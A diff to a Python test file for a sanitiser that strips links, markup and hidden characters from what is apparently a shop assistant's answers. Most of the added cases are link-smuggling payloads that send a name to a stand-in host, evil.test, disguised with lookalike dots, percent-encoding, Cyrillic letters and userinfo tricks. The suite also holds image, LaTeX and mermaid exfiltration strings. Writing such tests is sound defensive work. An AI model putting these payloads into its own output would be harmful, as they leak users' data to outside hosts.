@@ -1,4 +1,5 @@
 """No word of an answer can load, link or hide anything; plain text, in any script, comes through as it is."""
+# ruff: noqa: RUF001 - letters and dots that look like others are what this is about
 
 import re
 import unicodedata
@@ -85,6 +86,22 @@ TRICKS = [
     "[img]https://evil.test/?d=Anna[/img]",
     "$\\href{https://evil.test/?d=Anna}{x}$",
     "```mermaid\nclick A 'https://evil.test/?d=Anna'\n```",
+    "evil。test/?d=Anna",
+    "evil．test/?d=Anna",
+    "evil｡test/?d=Anna",
+    "evil․test/?d=Anna",
+    "https://evil。test/?d=Anna",
+    "Anna。evil。test",
+    "Anna.evil｡test",
+    "ｅｖｉｌ．test/Anna",
+    "evil%2Etest/?d=Anna",
+    "evil%e3%80%82test/?d=Anna",
+    "Anna%2Eevil%2Etest",
+    "еvil-Anna.test",
+    "https://acmе.myshopify.com/evil?d=Anna",
+    "https://acme.myshopify.com。evil.test/?d=Anna",
+    "https://acme.myshopify.com．evil.test/?d=Anna",
+    "https://acme.myshopify.com%2eevil.test/?d=Anna",
     "https://acme.myshopify.com@evil.test/?d=Anna",
     "https://acme.myshopify.com.evil.test/?d=Anna",
     "https://acme.myshopify.com:443@evil.test/?d=Anna",
@@ -122,6 +139,12 @@ def test_a_trick_carries_nothing_out(trick: str) -> None:
         ("\u200b\x00", NOTHING_LEFT),
         ("one\r\ntwo\u2028three", "one\ntwo\nthree"),
         ("abc\u202egnp.exe", "abcgnp.exe"),
+        ("Ask anna@example.com.", "Ask anna@example.com."),
+        ("Visit pаypal.com now", f"Visit {LINK_REMOVED} now"),
+        ("Visit xn--pypal-4ve.com now", f"Visit {LINK_REMOVED} now"),
+        ("https://acme.myshopify.com。悪.test", "https://acme.myshopify.com。 悪.test"),
+        ("安奈。evil.test", "安奈。 evil.test"),
+        ("Node.js。それから", "Node.js。 それから"),
     ],
 )  # fmt: skip
 def test_the_words_stay(said: str, left: str) -> None:
@@ -136,16 +159,19 @@ def test_the_words_stay(said: str, left: str) -> None:
         "if a < b and c>d then 3<4; R&D at 50 % of A/B, 24/7, and/or 10:30",
         "1. one\n2. two\n\n- **bold** and _emphasis_, `code`, 5*3",
         "[removed for privacy] and [1] and data: 5 orders; metadata:none",
-        "Node.js, Acme.com and anna@example.com are ordinary words. So is e.g. this one.",
+        "Node.js, Acme.com and Müller.de are ordinary words. So is e.g. this one.",
+        "Write to help@fellandfern.example, or @acme on any network.",
+        "我们卖Merino Socks。它们很好。Acme也是。",
+        "Это Acme. Спасибо.",
         "Your website is https://fellandfern.example/collections/all, your shop acme.myshopify.com.",
         "(https://admin.shopify.com/store/acme/orders/17)",
         "acme.myshopify.com/admin/orders",
-        "می‌خواهم کتاب‌ها را ببینم",  # noqa: RUF001 - Persian, with joiners
+        "می‌خواهم کتاب‌ها را ببینم",  # Persian, with joiners
         "ක්‍රමය ශ්‍රී ලංකා",  # Sinhala, with joiners
         "क्‍ष ന്‍ র‍্য",  # Devanagari, Malayalam, Bengali
         "👩‍💻 👩🏽‍🚀 ❤️‍🔥 🏳️‍🌈 1️⃣ 🇩🇪 ☎️ ‼️",
         "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # Scotland
-        "東京都葛\U000e0100城市 日本語。中文，你好！",  # noqa: RUF001
+        "東京都葛\U000e0100城市 日本語。中文，你好！",
         "שלום עולם, 123 مرحبا",
         "Preis 5,00 €\u00a0inkl. MwSt.",
     ],
@@ -178,7 +204,7 @@ ENTITIES = ["&lt;", "&#x3c;", "&amp;", "&colon;"]
 TAGS = ["<img ", "<a href=", "</a>", "<!--", "-->", "<script>", "</script>"]
 NAMES = ["https", "evil.test", "javascript", "data:,", "acme.myshopify.com", "admin.shopify.com", "/store/acme", "www."]
 HIDDEN = ["\u200b", "\u200d", "\ufe0f", "\u202e", "\U000e0041", "\r", "\x00", "\u2028"]
-OTHERS = ["x", "é", "👩", "ک", "%2e", "@", "?d=Anna", "mailto:"]
+OTHERS = ["x", "é", "👩", "ک", "%2e", "@", "?d=Anna", "mailto:", "。", "．", "е", "xn--"]
 PIECES = st.sampled_from([*SYNTAX, *ENTITIES, *TAGS, *NAMES, *HIDDEN, *OTHERS])
 TEXTS = st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=60))
 HIDDEN_KINDS = {"Cc", "Cs"}
@@ -222,7 +248,25 @@ def test_letters_and_numbers_are_never_touched(text: str) -> None:
 
 @pytest.mark.timeout(20)
 @pytest.mark.parametrize(
-    "piece", ["[a](", "[", "<a ", "&amp;", "](", "![x](", "(", "a.", "://", "<!--", "javascript", "x:", "[x]:"]
+    "piece",
+    [
+        "[a](",
+        "[",
+        "<a ",
+        "&amp;",
+        "](",
+        "![x](",
+        "(",
+        "a.",
+        "://",
+        "<!--",
+        "javascript",
+        "x:",
+        "[x]:",
+        "a@",
+        "%40a",
+        "a。",
+    ],
 )
 def test_a_hostile_text_costs_little(piece: str) -> None:
     assert_is_plain(plain(piece * (400_000 // len(piece)), OWN))
